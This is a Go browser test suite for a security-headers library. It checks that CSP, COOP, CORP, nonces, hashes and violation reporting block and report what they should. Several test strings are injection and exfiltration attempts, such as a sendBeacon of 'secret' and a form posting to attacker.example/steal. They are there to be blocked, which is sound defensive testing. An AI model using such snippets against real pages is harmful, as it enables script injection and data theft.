package browsertest_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html/template"
	"image"
	"image/png"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gatehouse-go/gatehouse/secheaders"
)

// emptyWasm is the smallest WebAssembly module: its magic number and version.
var emptyWasm = []byte("\x00asm\x01\x00\x00\x00")

var onePixel = func() []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		panic(err)
	}
	return b.Bytes()
}()

// assets are files of every kind that a page loads, for any origin to read.
func assets() *http.ServeMux {
	mux := http.NewServeMux()
	serve := func(path, contentType string, body []byte) {
		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", contentType)
			_, _ = w.Write(body)
		})
	}
	serve("/ran.js", "text/javascript", []byte(`self.ran = (self.ran || 0) + 1`))
	serve("/worker.js", "text/javascript", []byte(`postMessage("works")`))
	serve("/red.css", "text/css", []byte(`body { color: rgb(255, 0, 0) }`))
	serve("/dot.png", "image/png", onePixel)
	serve("/dot.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`))
	serve("/data.json", "application/json", []byte(`{"works":true}`))
	serve("/text.txt", "text/plain", []byte(`self.ran = "text"`))
	serve("/app.wasm", "application/wasm", emptyWasm)
	serve("/page", "text/html", []byte(`<!doctype html><link rel="icon" href="/dot.png"><title>page</title><body>page</body>`))
	return mux
}

// foreign is another site, which allows everybody everything: what of it does not
// load was kept out by the page's own policy.
func foreign(t *testing.T) string {
	mux := assets()
	return "https://attacker.example:" + serveTLS(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
		mux.ServeHTTP(w, r)
	}))
}

// inbox gathers what the collector passes on.
type inbox struct {
	mu      sync.Mutex
	reports []secheaders.Report
}

func (b *inbox) all() []secheaders.Report {
	b.mu.Lock()
	defer b.mu.Unlock()
	return slices.Clone(b.reports)
}

// eventually waits for a report.
func (b *inbox) eventually(t *testing.T, what string, match func(secheaders.Report) bool) {
	t.Helper()
	for deadline := time.Now().Add(limit); !slices.ContainsFunc(b.all(), match); {
		if time.Now().After(deadline) {
			text, _ := json.MarshalIndent(b.all(), "", "  ")
			t.Fatalf("no report of %s among\n%s", what, text)
		}
		time.Sleep(20 * time.Millisecond) // another process, real time
	}
}

func collector(t *testing.T) (*inbox, http.Handler) {
	t.Helper()
	b := &inbox{}
	h, err := secheaders.NewCollector(secheaders.CollectorConfig{OnReport: func(_ *http.Request, r secheaders.Report) {
		b.mu.Lock()
		defer b.mu.Unlock()
		b.reports = append(b.reports, r)
	}})
	require.NoError(t, err)
	return b, h
}

// site serves mux behind the Config on app.example over TLS.
func site(t *testing.T, c secheaders.Config, mux http.Handler) string {
	t.Helper()
	m, err := secheaders.New(c)
	require.NoError(t, err)
	return "https://app.example:" + serveTLS(t, m.Handler(mux))
}

// js is a script with the other site's origin in it, whose value arrives when
// the browser has decided; a load that never ends is a test that fails. It
// waits a moment first, as the browser lets a debugger's own script use eval.
func js(script, other string) string {
	return `(async () => { await new Promise(r => setTimeout(r)); const other = ` + fmt.Sprintf("%q", other) + `;
		const settle = (el, parent = document.body) => new Promise(done => {
			el.onload = el.onloadedmetadata = () => done("loaded"); el.onerror = () => done("refused"); parent.append(el) });
		const make = (tag, props) => Object.assign(document.createElement(tag), props);
		const refused = p => p.then(() => "loaded", () => "refused");
		` + script + ` })()`
}

func TestEachDirectiveOfTheDefaultPolicyBlocksAndReportsWhatItShould(t *testing.T) {
	tb := newTab(t)
	other := foreign(t)
	box, reports := collector(t)
	mux := assets()
	mux.Handle("/reports", reports)
	c := secheaders.Default()
	c.CSP.ReportURI = []string{"/reports"} // sent at once, unlike report-to
	app := site(t, c, mux)

	for _, tc := range []struct{ name, script, directive, blocked string }{
		{"an injected inline script", `document.body.append(make("script", {textContent: "self.ran = 1"}))`, "script-src-elem", "inline"},
		{"an injected event handler", `const el = make("b"); el.setAttribute("onclick", "self.ran = 1"); el.click()`, "script-src-attr", "inline"},
		{"a javascript: address", `const a = make("a", {href: "javascript:self.ran = 1"}); document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 200))`, "script-src-elem", "inline"},
		{"eval", `try { eval("self.ran = 1") } catch {}`, "script-src", "eval"},
		{"WebAssembly", `try { await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) } catch {}`, "script-src", "wasm-eval"},
		{"a script of another host", `return settle(make("script", {src: other + "/ran.js"}))`, "script-src-elem", "/ran.js"},
		{"an injected style", `document.head.append(make("style", {textContent: "body { color: red }"}))`, "style-src-elem", "inline"},
		{"a style attribute", `document.body.setAttribute("style", "color: red")`, "style-src-attr", "inline"},
		{"a stylesheet of another host", `return settle(make("link", {rel: "stylesheet", href: other + "/red.css"}))`, "style-src-elem", "/red.css"},
		{"an image of another host", `return settle(make("img", {src: other + "/dot.png"}))`, "img-src", "/dot.png"},
		{"a font of another host", `return refused(new FontFace("x", "url(" + other + "/font.woff2)").load())`, "font-src", "/font.woff2"},
		{"a request to another host", `return refused(fetch(other + "/data.json"))`, "connect-src", "/data.json"},
		{"a beacon to another host", `navigator.sendBeacon(other + "/beacon", "secret")`, "connect-src", "/beacon"},
		{"a WebSocket to another host", `try { new WebSocket(other.replace("https", "wss") + "/ws") } catch {}`, "connect-src", "/ws"},
		{"a video of another host", `return settle(make("video", {src: other + "/video.mp4"}))`, "media-src", "/video.mp4"},
		{"a frame of another host", `document.body.append(make("iframe", {src: other + "/page"})); await new Promise(r => setTimeout(r, 300))`, "frame-src", "attacker.example"},
		{"a worker out of a blob", `try { new Worker(URL.createObjectURL(new Blob([""]))) } catch {}; await new Promise(r => setTimeout(r, 200))`, "worker-src", "blob"},
		{"an object, of this host too", `return settle(make("object", {data: "/dot.svg", type: "image/svg+xml"}))`, "object-src", "/dot.svg"},
		{"a base of another host", `document.head.append(make("base", {href: other + "/"}))`, "base-uri", ""},
		{"a form to another host", `const f = make("form", {action: other + "/steal", method: "post"}); document.body.append(f); f.submit(); await new Promise(r => setTimeout(r, 300))`, "form-action", "attacker.example"},
	} {
		tb.open(app + "/page")
		before := len(box.all())
		got := eval[any](tb, js(tc.script, other))
		assert.NotEqual(t, "loaded", got, tc.name)
		tb.eventually(`self.__violations.some(v => v.Directive === "` + tc.directive + `" && v.BlockedURI.includes("` + tc.blocked + `"))`)
		assert.Nil(t, eval[any](tb, `self.ran`), "%s ran", tc.name)
		box.eventually(t, tc.name, func(r secheaders.Report) bool {
			i := slices.IndexFunc(box.all(), func(o secheaders.Report) bool { return o.CSP == r.CSP })
			return i >= before && r.CSP.Directive == tc.directive && r.CSP.Disposition == "enforce" && r.URL == app+"/page"
		})
	}
	assert.Equal(t, "rgb(0, 0, 0)", eval[string](tb, `getComputedStyle(document.body).color`))

	// frame-ancestors: the other site cannot show the page.
	tb.open(other + "/page")
	eval[any](tb, js(`document.body.append(make("iframe", {src: "`+app+`/page"}))`, other))
	box.eventually(t, "the frame", func(r secheaders.Report) bool { return r.CSP.Directive == "frame-ancestors" })
}

func TestTheDefaultPolicyAllowsWhatAPageOfItsOwnOriginDoes(t *testing.T) {
	tb := newTab(t)
	box, reports := collector(t)
	mux := assets()
	mux.Handle("/reports", reports)
	mux.HandleFunc("/rich", func(w http.ResponseWriter, r *http.Request) {
		// upgrade-insecure-requests: the http: image is asked for over TLS.
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><link rel="icon" href="/dot.png"><base href="/"><link rel="stylesheet" href="red.css">
			<script src="ran.js"></script><img id="up" src="http://%s/dot.png"><form action="/data.json" target="out"></form>`, r.Host)
	})
	c := secheaders.Default()
	c.CSP.ReportURI = []string{"/reports"}
	m, err := secheaders.New(c)
	require.NoError(t, err)
	framed, err := m.With(func(c *secheaders.Config) { c.CSP.FrameAncestors = []secheaders.Source{secheaders.Self} })
	require.NoError(t, err)
	mux.Handle("/framed", framed.Handler(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!doctype html><title>framed</title>")
	})))
	app := "https://app.example:" + serveTLS(t, m.Handler(mux))
	tb.open(app + "/rich")

	assert.Equal(t, 1, eval[int](tb, `self.ran`), "a script")
	assert.Equal(t, "rgb(255, 0, 0)", eval[string](tb, `getComputedStyle(document.body).color`), "a stylesheet")
	tb.eventually(`document.getElementById("up").naturalWidth === 1`)
	assert.Equal(t, "loaded", eval[string](tb, js(`return settle(make("img", {src: "/dot.png"}))`, "")))
	assert.Equal(t, true, eval[any](tb, `fetch("/data.json").then(r => r.json()).then(d => d.works)`))
	assert.Equal(t, "works", eval[string](tb, `new Promise(r => new Worker("/worker.js").onmessage = m => r(m.data))`))
	assert.Equal(t, "framed", eval[string](tb, js(`const f = make("iframe", {src: "/framed"}); await settle(f); return f.contentDocument.title`, "")))
	assert.Equal(t, true, eval[any](tb, `self.originAgentCluster`))
	assert.Empty(t, tb.violations())
	assert.Empty(t, box.all())
	assert.Empty(t, tb.complaints(), "an unknown feature or a value that the browser does not understand is told on the console")
}

func TestThePresetsHaveNothingThatTheBrowserDoesNotUnderstand(t *testing.T) {
	for name, c := range map[string]secheaders.Config{
		"API": secheaders.API(), "FlutterWeb": secheaders.FlutterWeb(secheaders.FlutterOptions{CDN: true, Isolated: true}),
	} {
		tb := newTab(t)
		c.CSP.Img = []secheaders.Source{secheaders.Self} // the page's icon
		tb.open(site(t, c, assets()) + "/page")
		assert.Empty(t, tb.complaints(), name)
	}
}

func TestReportsOfTheReportingAPIArrive(t *testing.T) {
	tb := newTab(t)
	box, reports := collector(t)
	mux := assets()
	mux.Handle("/reports", reports)
	c := secheaders.Default()
	c.Reporting = map[string]string{"main": "/reports"}
	c.CSP.ReportTo = "main"
	c.CSPReportOnly = &secheaders.Policy{Img: []secheaders.Source{secheaders.None}, ReportTo: "main"}
	app := site(t, c, mux)
	tb.open(app + "/page?session=s3cret#x")
	eval[any](tb, js(`document.body.append(make("script", {textContent: "1"})); return settle(make("img", {src: "/dot.png?token=s3cret"}))`, ""))
	for disposition, directive := range map[string]string{"enforce": "script-src-elem", "report": "img-src"} {
		box.eventually(t, disposition, func(r secheaders.Report) bool {
			return r.Type == "csp-violation" && r.CSP.Disposition == disposition && r.CSP.Directive == directive && r.URL == app+"/page"
		})
	}
	for _, r := range box.all() {
		assert.NotContains(t, string(r.Body), "s3cret")
		assert.NotEmpty(t, r.UserAgent)
	}
}

func TestAnotherHostsCollectorIsReachedByAPreflight(t *testing.T) {
	tb := newTab(t)
	box := &inbox{}
	pages := assets()
	var app atomic.Value // the page's origin, known after the collector's
	collect := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h, err := secheaders.NewCollector(secheaders.CollectorConfig{Origins: []string{app.Load().(string)}, OnReport: func(_ *http.Request, r secheaders.Report) {
			box.mu.Lock()
			defer box.mu.Unlock()
			box.reports = append(box.reports, r)
		}})
		if assert.NoError(t, err) {
			h.ServeHTTP(w, r)
		}
	})
	c := secheaders.Default()
	c.Reporting = map[string]string{"main": "https://reports.example:" + serveTLS(t, collect) + "/r"}
	c.CSP.ReportTo = "main"
	origin := site(t, c, pages)
	app.Store(origin)
	tb.open(origin + "/page")
	eval[any](tb, js(`document.body.append(make("script", {textContent: "1"}))`, ""))
	box.eventually(t, "the script", func(r secheaders.Report) bool { return r.CSP.Directive == "script-src-elem" })
}

func TestANonceRunsThePagesOwnScriptAndNoOther(t *testing.T) {
	tb := newTab(t)
	page := template.Must(template.New("").Parse(`<!doctype html><link rel="icon" href="data:,">
		<script nonce="{{.}}">self.own = 1; const s = document.createElement("script"); s.src = "/ran.js"; document.head.append(s)</script>
		<style nonce="{{.}}">body { color: rgb(255, 0, 0) }</style>
		<script>self.injected = 1</script><script nonce="guess">self.injected = 2</script><script src="/ran.js"></script>`))
	mux := assets()
	mux.HandleFunc("/nonce", func(w http.ResponseWriter, r *http.Request) { _ = page.Execute(w, secheaders.Nonce(r.Context())) })
	c := secheaders.Default()
	c.CSP.Script = []secheaders.Source{secheaders.NonceSource, secheaders.StrictDynamic}
	c.CSP.Style = []secheaders.Source{secheaders.NonceSource}
	c.CSP.Img = []secheaders.Source{secheaders.Scheme("data")}
	app := site(t, c, mux)
	for range 2 { // a nonce is never used again
		tb.open(app + "/nonce")
		tb.eventually(`self.ran === 1`) // by strict-dynamic; the one in the page is refused
		assert.Equal(t, 1, eval[int](tb, `self.own`))
		assert.Nil(t, eval[any](tb, `self.injected`))
		assert.Equal(t, "rgb(255, 0, 0)", eval[string](tb, `getComputedStyle(document.body).color`))
		assert.Len(t, tb.violations(), 3)
	}
}

var consoleHash = regexp.MustCompile(`a hash \('(sha256-[^']+)'\)`)

func TestHashHTMLComputesWhatTheBrowserComputes(t *testing.T) {
	bodies := []string{
		`<script>self.a = "<b>&amp;"</script><style>b { color: red }</style>`,
		"<script>\r\n  self.a = 1;\r  self.b = 2\r\n</script><style>\r\n b{}\r\n</style>",
		"<script>self.z = '\x00'</script>",
		`<script>self.u = "ü€😀"</script>`,
		`<script> </script><style></style><script></script>`,
		`<script type="module">self.m = 1</script><script type=" text/JavaScript ">self.t = 1</script><script type="">self.e = 1</script>`,
		`<script type="application/json">{}</script><script type="text/template">x</script><script type=" ">x</script><script type="text/javascript;charset=utf-8">x</script>`,
		`<script type="importmap">{"imports":{}}</script><script language="JavaScript1.2">self.l = 1</script><script language="vbscript">x</script>`,
		`<script type="speculationrules">{"prefetch":[]}</script>`,
		`<script src="data:,">ignored</script><script src>ignored</script>`,
		`<script><!-- <script></script> --></script><script><!-- self.c = 1 </script>`,
		`<script><!--><script></script><!-- <script>x</script> --!><script>self.d = 1</script>`,
		`<title><script>x</script></title><textarea><style>x</style></textarea><iframe><script>x</script></iframe><noembed><style>x</style></noembed>`,
		`<svg><style>.a &gt; .b { } <![CDATA[ .c > .d {} ]]></style><script>self.s = 1 &lt; 2 <![CDATA[ && 3 < 4 ]]></script></svg>`,
		`<svg><script src="data:,">self.g = 1</script><script href="data:,">x</script></svg>`,
		`<svg><title><style>a &gt; b {}</style></title><foreignObject><style>c &gt; d {}</style></foreignObject></svg><style>e &gt; f {}</style>`,
		`<svg><p><style>a &gt; b {}</style></svg><math><mi><script>self.k = "&lt;"</script></mi></math>`,
		`<a title="<script>x</script>" href='<style>'>y</a><?xml <script>?><script>self.q = 1</script><![CDATA[<style>r{}</style>]]>`,
		`<style media="print">p{}</style><style type="text/css">q{}</style><style type="text/less">x</style><style type="TEXT/CSS">s{}</style>`,
		`<div/><script/>self.w = 1</script><SCRIPT>self.v = 1</SCRIPT >`,
	}
	tell, err := secheaders.New(secheaders.Config{CSP: &secheaders.Policy{Script: []secheaders.Source{secheaders.None}, Style: []secheaders.Source{secheaders.None}}})
	require.NoError(t, err)
	mux := http.NewServeMux()
	app := "https://app.example:" + serveTLS(t, mux)
	told, allowed := newTab(t), newTab(t)
	for i, body := range bodies {
		page := []byte(`<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">` + body)
		script, style, err := secheaders.HashHTML(fstest.MapFS{"index.html": {Data: page}}, "index.html")
		require.NoError(t, err, body)
		want := []string{}
		for _, s := range append(script, style...) {
			want = append(want, strings.Trim(string(s), "'"))
		}
		write := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(page) })

		// A policy that allows nothing: the console tells the hash of each.
		mux.Handle(fmt.Sprintf("/told/%d", i), tell.Handler(write))
		before := len(told.complaints())
		told.open(fmt.Sprintf("%s/told/%d", app, i))
		time.Sleep(50 * time.Millisecond) // the console comes a moment after the load
		got := hashesIn(told.complaints()[before:])
		for deadline := time.Now().Add(5 * time.Second); len(got) < len(want) && time.Now().Before(deadline); {
			time.Sleep(20 * time.Millisecond)
			got = hashesIn(told.complaints()[before:])
		}
		assert.ElementsMatch(t, want, got, "%s\n%s", body, strings.Join(told.complaints()[before:], "\n"))

		// The policy that the hashes make: nothing is blocked.
		c := secheaders.Default()
		c.CSP.Img = []secheaders.Source{secheaders.Scheme("data")}
		c.CSP.Script = append([]secheaders.Source{secheaders.Scheme("data")}, script...)
		c.CSP.Style = append([]secheaders.Source{secheaders.Self}, style...)
		allow, err := secheaders.New(c)
		require.NoError(t, err)
		mux.Handle(fmt.Sprintf("/allowed/%d", i), allow.Handler(write))
		allowed.open(fmt.Sprintf("%s/allowed/%d", app, i))
		assert.Empty(t, allowed.violations(), body)
	}
}

// hashesIn lists the hashes that console messages name, each once.
func hashesIn(console []string) []string {
	out := []string{}
	for _, line := range console {
		for _, m := range consoleHash.FindAllStringSubmatch(line, -1) {
			if !slices.Contains(out, m[1]) {
				out = append(out, m[1])
			}
		}
	}
	return out
}

func TestCOOPSeversPopupsAndTheOAuthOptionDoesNot(t *testing.T) {
	tb := newTab(t)
	mux := http.NewServeMux()
	mux.HandleFunc("/consent", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!doctype html><script>window.opener?.postMessage("code", "*")</script>`)
	})
	provider := "https://login.example:" + serveTLS(t, mux)
	signIn := `(async () => {
		const heard = new Promise(r => addEventListener("message", e => r(e.data)));
		const popup = window.open("` + provider + `/consent");
		const severed = new Promise(r => setInterval(() => popup.closed && r("severed"), 20));
		return Promise.race([heard, severed]) })()`

	m, err := secheaders.New(secheaders.Config{})
	require.NoError(t, err)
	popups, err := m.With(func(c *secheaders.Config) { c.COOP = secheaders.COOPSameOriginAllowPopups })
	require.NoError(t, err)
	app := assets()
	app.Handle("/login", popups.Handler(http.RedirectHandler("/login/", http.StatusFound)))
	app.Handle("/login/", popups.Handler(http.StripPrefix("/login", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!doctype html><title>sign in</title>")
	}))))
	origin := "https://app.example:" + serveTLS(t, m.Handler(app))

	tb.open(origin + "/page")
	assert.Equal(t, "severed", eval[string](tb, signIn), "the default set")
	tb.open(origin + "/login")
	assert.Equal(t, "code", eval[string](tb, signIn), "COOPSameOriginAllowPopups by With")

	// And the other way: a site that opens this one keeps no handle.
	tb.open(provider + "/consent")
	assert.Equal(t, "severed", eval[string](tb, `(async () => {
		const w = window.open("`+origin+`/page");
		return new Promise(r => setInterval(() => w.closed && r("severed"), 20)) })()`))
}

// flutterPage does what a Flutter build's page does, with nothing of Flutter in
// it: no inline script, WebAssembly by streaming, styles by element and
// attribute, images out of data: and blob:, fonts by fetch.
func flutterPage() *http.ServeMux {
	mux := assets()
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!DOCTYPE html><html><head><base href="/"><meta charset="UTF-8"><link rel="icon" type="image/png" href="dot.png">
			<title>app</title></head><body><script src="flutter_bootstrap.js" async></script></body></html>`)
	})
	mux.HandleFunc("/flutter_bootstrap.js", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, `(async () => {
			await WebAssembly.instantiateStreaming(fetch("app.wasm"));
			const style = document.createElement("style"); style.textContent = "flt-glass-pane { color: red }"; document.head.append(style);
			const view = document.createElement("flutter-view"); view.setAttribute("style", "position: absolute"); document.body.append(view);
			const load = src => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = src });
			const dot = await (await fetch("dot.png")).blob();
			await load(URL.createObjectURL(dot));
			const data = await new Promise(r => { const f = new FileReader(); f.onload = () => r(f.result); f.readAsDataURL(dot) });
			await load(data);
			await fetch("data.json");
			if (self.crossOriginIsolated) {
				const memory = new WebAssembly.Memory({initial: 1, maximum: 1, shared: true});
				const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = e => postMessage(e.data.buffer instanceof SharedArrayBuffer)"])));
				const shared = new Promise((ok, no) => { worker.onmessage = e => ok(e.data); worker.onerror = no });
				worker.postMessage(memory);
				self.shared = await shared;
			}
			self.started = true;
		})().catch(e => self.started = String(e))`)
	})
	return mux
}

func TestAFlutterShapedPageRunsUnderFlutterWebWithoutViolation(t *testing.T) {
	for name, o := range map[string]secheaders.FlutterOptions{
		"local engine":    {},
		"CDN":             {CDN: true},
		"isolated":        {Isolated: true},
		"isolated, fonts": {Isolated: true, FontHosts: []string{"https://fonts.example"}},
	} {
		tb := newTab(t)
		tb.open(site(t, secheaders.FlutterWeb(o), flutterPage()))
		tb.eventually(`self.started`)
		assert.Equal(t, true, eval[any](tb, `self.started`), name)
		assert.Equal(t, o.Isolated, eval[bool](tb, `self.crossOriginIsolated`), name)
		if o.Isolated {
			assert.Equal(t, true, eval[any](tb, `self.shared`), "%s: threads", name)
		}
		assert.Empty(t, tb.violations(), name)
		assert.Empty(t, tb.complaints(), name)
		assert.Equal(t, "EvalError", eval[string](tb, js(`try { eval("1") } catch (e) { return e.name }`, "")), "%s: no eval", name)
		eval[any](tb, js(`document.body.append(make("script", {textContent: "self.injected = 1"}))`, ""))
		assert.Nil(t, eval[any](tb, `self.injected`), name)
	}
}

func TestOtherHeadersOfTheDefaultSetDoWhatTheyAreFor(t *testing.T) {
	tb := newTab(t)
	referrer := make(chan string, 1)
	other := "https://other.example:" + serveTLS(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/left" {
			referrer <- r.Header.Get("Referer")
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!doctype html><link rel="icon" href="data:,">`)
	}))
	m, err := secheaders.New(secheaders.Config{})
	require.NoError(t, err)
	shared, err := m.With(func(c *secheaders.Config) { c.CORP = secheaders.CORPCrossOrigin })
	require.NoError(t, err)
	logout, err := m.With(func(c *secheaders.Config) {
		c.ClearSiteData = []secheaders.SiteData{secheaders.ClearCookies, secheaders.ClearStorage}
	})
	require.NoError(t, err)
	mux := assets()
	mux.Handle("/shared/", shared.Handler(http.StripPrefix("/shared", assets())))
	mux.Handle("/logout", logout.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})))
	app := "https://app.example:" + serveTLS(t, m.Handler(mux))

	tb.open(app + "/page?token=s3cret")
	assert.Equal(t, "refused", eval[string](tb, js(`return settle(make("script", {src: "/text.txt"}))`, "")), "nosniff")
	allowed := eval[map[string]bool](tb, `Object.fromEntries(["camera", "microphone", "geolocation", "payment", "usb", "fullscreen"].map(f => [f, document.featurePolicy.allowsFeature(f)]))`)
	assert.Equal(t, map[string]bool{"camera": false, "microphone": false, "geolocation": false, "payment": false, "usb": false, "fullscreen": true}, allowed)

	assert.Equal(t, "c=1", eval[string](tb, `(document.cookie = "c=1", localStorage.setItem("s", "1"), document.cookie)`))
	eval[any](tb, `fetch("/logout").then(() => 1)`)
	tb.eventually(`document.cookie === "" && localStorage.getItem("s") === null`)

	tb.open(app + "/page?token=s3cret")
	eval[any](tb, `void window.open("`+other+`/left")`)
	assert.Equal(t, app+"/", <-referrer, "the host, no path or query")
	tb.open(other + "/page")

	assert.Equal(t, "refused", eval[string](tb, js(`return settle(make("img", {src: "`+app+`/dot.png"}))`, "")), "CORP keeps other sites out")
	assert.Equal(t, "loaded", eval[string](tb, js(`return settle(make("img", {src: "`+app+`/shared/dot.png"}))`, "")), "CORPCrossOrigin")
}

func TestAnIntegrityPolicyBlocksScriptsWithoutIntegrity(t *testing.T) {
	tb := newTab(t)
	c := secheaders.Default()
	c.IntegrityPolicy = &secheaders.Integrity{BlockedDestinations: []string{"script"}}
	tb.open(site(t, c, assets()) + "/page")
	assert.Equal(t, "refused", eval[string](tb, js(`return settle(make("script", {src: "/ran.js"}))`, "")))
	hash := strings.Trim(string(secheaders.SHA256([]byte(`self.ran = (self.ran || 0) + 1`))), "'")
	assert.Equal(t, "loaded", eval[string](tb, js(`return settle(make("script", {src: "/ran.js", integrity: "`+hash+`", crossOrigin: "anonymous"}))`, "")))
}
